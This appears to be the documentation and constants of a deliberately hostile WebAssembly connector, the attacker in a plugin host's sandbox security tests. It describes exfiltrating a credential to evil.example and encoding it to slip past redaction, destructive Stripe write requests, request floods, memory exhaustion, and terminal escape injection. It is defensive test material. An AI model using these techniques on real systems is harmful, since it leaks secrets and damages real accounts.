//! A deliberately hostile `klairr:connector@0.2.0` component, the attacker of the host's security tests.
//!
//! Built for `wasm32-wasip2` (by `tests/build.rs`, path in `env!("KLAIRR_HOSTILE_COMPONENT")`) it
//! exports a correctly typed connector that does everything a connector must not: it sends raw wasi:http
//! (any method, scheme, authority, path, header and body), floods, sleeps forever, spins, allocates,
//! traps, prints, leaks the credential and returns malformed results. What it does on `query` is decided
//! by the test, which passes a script as the query text. The tests assert on the hostile upstream's request
//! log and on the host's output, never on what this component reports: the outcomes it returns are only
//! there to make a failing test easier to read. Natively the crate is empty.
//!
//! # The script (the query text)
//!
//! A JSON array of steps run in order, or one step object alone. A script that is not JSON, or a step
//! this component does not know, is answered with `invalid-query("hostile script: …")`.
//!
//! | step | what it does | outcome recorded |
//! |---|---|---|
//! | `{"http": {"method": "POST", "scheme": "https", "authority": "api.stripe.com", "path": "/v1/customers?x=1", "headers": [["authorization", "Bearer rk_test_evil"], ["stripe-account", "acct_1"]], "body": "email=a@b.c"}}` | one outgoing request, then reads the whole response body (with `"reverse": true` the path is sent reversed: text the component made, not the caller's) | `HTTP 200, 44 body bytes`, `refused at handle: …`, `response error: …`, plus notes on headers or request-line parts the host refused |
//! | `{"flood": {"count": 150, "path": "/v1/customers?limit=1", "hold": false, "leave": false, "keep": false}}` | starts `count` GET requests to `https://api.stripe.com` at once (every `handle` first, then waits for all with `wasi:io/poll`), dropping each response as it comes (its body unread), or with `hold` keeping every one until the last has come, or with `keep` keeping every one past the call (until the instance is dropped); with `leave` it keeps their futures and goes on at once, waiting for none | `flood: 150 started, 0 refused at handle, 150 responses (150 2xx), 0 errors` |
//! | `{"churn": {"count": 48, "batch": 8, "wait_ms": 100, "path": "/v1/customers?limit=1"}}` | starts `count` GET requests `batch` at a time, waits `wait_ms` after each batch and drops the batch's futures unread: requests given up while their answers are still to come | `churn: 48 started and dropped, 0 refused at handle` |
//! | `{"hoard": {"count": 16, "authority_mib": 32, "method_mib": 0, "body_kib": 2048, "fields_kib": 0, "path_kib": 0, "tiny_fields": 0}}` | makes `count` requests it never sends and keeps them past the call, each with an authority and a method of that many MiB, a body written as far as `check-write` allows (up to `body_kib` KiB), headers appended 4 KiB at a time up to `fields_kib` KiB, then `tiny_fields` headers with names `t0`, `t1`, … and empty values, and a path of `path_kib` KiB: host memory outside the guest's linear memory | `hoarded 16 requests: N bytes of authority, N bytes of method, N bytes of body, N bytes of headers, N bytes of path accepted` (a tiny header counts 1 byte) |
//! | `{"sleep_ns": 18446744073709551615}` | `monotonic-clock::subscribe-duration(n).block()` | `slept n ns` |
//! | `{"spin": true}` | loops forever without a host call | never returns |
//! | `{"alloc_mib": 300}` | allocates that many MiB and writes every byte (an allocation the host refuses aborts: a trap) | `allocated 300 MiB` |
//! | `{"panic": "text"}` | `panic!("text")` (the component is built with `panic = "abort"`: a trap) | never returns |
//! | `{"stack_overflow": true}` | unbounded recursion the optimiser cannot remove | never returns |
//! | `{"print": {"text": "…", "times": N}}` | writes `text` N times to stdout and N times to stderr | `printed N times`, or where the host's stream failed |
//! | `{"progress": {"requests": 7, "rows": 42, "times": N}}` | calls `progress.report(requests, rows)` N times (default once) | `reported N times` |
//! | `{"return": {…}}` | ends the script and returns this query-result instead of the outcomes | — |
//! | `{"error": {"kind": "upstream", "message": "…"}}` | ends the script and returns this connector-error | — |
//!
//! `http`: `method` is any string; the standard names in upper case (`GET`, `HEAD`, `POST`, `PUT`,
//! `DELETE`, `CONNECT`, `OPTIONS`, `TRACE`, `PATCH`) map to their variants, anything else (`get`, `GeT`,
//! `FETCH`) is sent as `method::other`. `scheme` is `https`, `http` or any other string (`scheme::other`).
//! Absent fields default to `GET`, `https`, `api.stripe.com`, `/`, no headers and no body; `null` for
//! `scheme`, `authority` or `path` leaves that part unset. A header the host refuses is recorded and the
//! request still goes. `body` is written after `handle`, whether or not the script set a `content-length`
//! header; without `body` the request has none.
//!
//! `return` (no validation, so it may be malformed on purpose; fields it does not know are ignored, so a
//! test can write the names its result uses as the keys of one, `"names": {"notes": null}`, as a query
//! writes a measure's name): `table` (default `"outcomes"`), `columns`
//! (`[{"name", "kind", "nullable", "doc"}]`, kind one of `id text integer boolean timestamp amount
//! currency`; `nullable` defaults to true, `doc` to ""), `rows` (arrays of JSON values: string → text,
//! integer → integer, bool → boolean, null → null; cell counts and types are not checked against the
//! columns; with `"reverse": true` every text cell is turned round: text the component made, not the
//! caller's; with `"grow": n` every text cell is its text `n` times over and with `"repeat": n` the rows
//! are `n` times over: results larger than a query can carry), `truncated` (false), `cache_ttl_seconds` (any u32, default 0), `shape` (`{"table", "columns",
//! "row_count", "filter_keys"}`, each field defaulting to the result's own table, columns, row count and
//! no keys), `requests` (0), `scan_note` (absent). A table, column or filter key name written `"$upstream"`
//! is the last response body an `http` step read (its first 4 KiB, trimmed): a value of the source
//! dressed up as a name, which the host must not keep in memory.
//! A text cell written `"$upstream"` is that body too, and `"$upstream|cut:SEP"` that body with `SEP`
//! between every two of its characters: an upstream's echo of the key, cut by text the component chose.
//!
//! `error`: `kind` is one of `secret-key-rejected invalid-key mode-mismatch invalid-query network` (with
//! `message`), `over-permissioned missing-permission` (with `resources`, a list of strings; defaults to
//! `[message]`), `upstream rate-limited` (with `message` and optional `status`, `code`, `request_id`).
//!
//! Without `return` or `error`, `query` returns table `outcomes`, one text column `outcome`, one row per
//! step, a cache TTL of 0 and `requests` = the number of requests the steps started.
//!
//! # The other functions
//!
//! - `check-credential(credential, mode)` tries to leak the credential: `GET
//!   https://api.stripe.com/v1/customers?leak=<credential>`, a `POST https://evil.example/` carrying it in
//!   an `authorization` header, an `x-leak` header and the body, a progress report whose numbers are the
//!   credential's bytes ([`key_as_progress`]), and a line on stdout and on stderr. Then it
//!   accepts anything for `test` (secret keys included) and, for `live`, except a credential of
//!   [`PROBES_THEN_LIES`] characters, returns
//!   `invalid-key("key <credential> is bad; <lower-cased> <reversed>")`: the credential as given, and
//!   encoded so that no redaction of its runs would catch it. A credential of [`SLOW_OPENING`]
//!   characters is first waited on for [`SLOW_OPENING_MS`] ms.
//! - `open(config)` accepts any configuration; with `max_rows` = [`SLOW_OPENING`] it first waits
//!   [`SLOW_OPENING_MS`] ms (two slow calls of one opening, each within a call's deadline).
//! - `verify()` of a live connection (only a credential of [`PROBES_THEN_LIES`] characters opens one)
//!   sends what an honest Stripe check sends (the five write probes with `…_klairr_probe_hostile` ids,
//!   a `GET …?limit=1` of each table) and reports them as they went, but names the mode `test`.
//! - `verify()` tries the writes a read-only connector must never make (`POST /v1/customers` with body
//!   `email=x@evil.example`, `DELETE /v1/customers/cus_RealCustomer123`, `POST /v1/payouts`,
//!   `POST /v1/charges/ch_Real123/capture`), one allowed-looking probe (`DELETE
//!   /v1/customers/cus_klairr_probe_never_exists`) and one read (`GET /v1/customers?limit=1`), all to
//!   `https://api.stripe.com`, then reports success whatever they got: every table readable, every
//!   probe "refused".
//! - `canonical-query(q)` returns `q` (turned round when `q` holds the word `reverse_in_canonical`); when `q` holds the word `request_in_canonical` it first tries a request (a call that may make none), e.g. with the step `{"print": {"text": "request_in_canonical", "times": 0}}`.
//! - `describe()` returns one table, `outcomes`, whose docs carry terminal escape sequences
//!   ([`ESCAPES`]).
//!   In a copy of the component whose [`DESCRIBE_MARKER`] a test patched to [`DESCRIBE_MULTIPLIED`], it
//!   returns a catalogue whose one table may group by a bucket of its one column named [`MULTIPLIED`]
//!   times, with [`MULTIPLIED`] buckets (`day` each time); patched to [`DESCRIBE_SLOW`], it first waits
//!   [`SLOW_OPENING_MS`] ms.

/// The credential's length, and the connection's `max_rows`, on which `check-credential` and `open` are
/// slow.
pub const SLOW_OPENING: u32 = 85;
/// The length of the one live credential `check-credential` accepts, whose `verify()` probes honestly
/// and names the wrong mode.
pub const PROBES_THEN_LIES: u32 = 86;
/// How long `check-credential` and `open` wait when told to be slow.
pub const SLOW_OPENING_MS: u64 = 700;

/// 32 bytes the component keeps as they are (a `#[used]` static) and reads at run time to choose what
/// `describe` returns: a test loading a copy whose last 8 bytes it replaced with [`DESCRIBE_MULTIPLIED`]
/// gets [`MULTIPLIED`] bucketed group columns (all the one column) times [`MULTIPLIED`] buckets.
pub const DESCRIBE_MARKER: &[u8; 32] = b"klairr-hostile-describe:honest!!";
/// The mode that makes `describe` multiply (see [`DESCRIBE_MARKER`]).
pub const DESCRIBE_MULTIPLIED: &[u8; 8] = b"multiply";
/// The mode that makes `describe` wait [`SLOW_OPENING_MS`] ms first (see [`DESCRIBE_MARKER`]).
pub const DESCRIBE_SLOW: &[u8; 8] = b"slowdesc";
/// How many bucketed group columns and buckets a multiplied catalogue names.
pub const MULTIPLIED: u32 = 100_000;

/// The terminal escape sequences the catalogue's docs carry: set the window title, then turn text red.
pub const ESCAPES: &str = "\u{1b}]0;pwned\u{7}\u{1b}[31m";

/// The progress report `check-credential` makes of the credential: its bytes 8..12 as a big-endian `u32`
/// (requests) and 12..20 as a big-endian `u64` (rows), the first bytes after an `rk_test_`/`rk_live_`
/// prefix; zeros where the credential is shorter. Printed in decimal these are digits of the key.
pub fn key_as_progress(credential: &str) -> (u32, u64) {
    let mut bytes = [0u8; 20];
    for (slot, b) in bytes.iter_mut().zip(credential.bytes()) {
        *slot = b;
    }
    let mut requests = [0u8; 4];
    requests.copy_from_slice(&bytes[8..12]);
    let mut rows = [0u8; 8];
    rows.copy_from_slice(&bytes[12..20]);
    (u32::from_be_bytes(requests), u64::from_be_bytes(rows))
}

#[cfg(target_arch = "wasm32")]
mod guest;
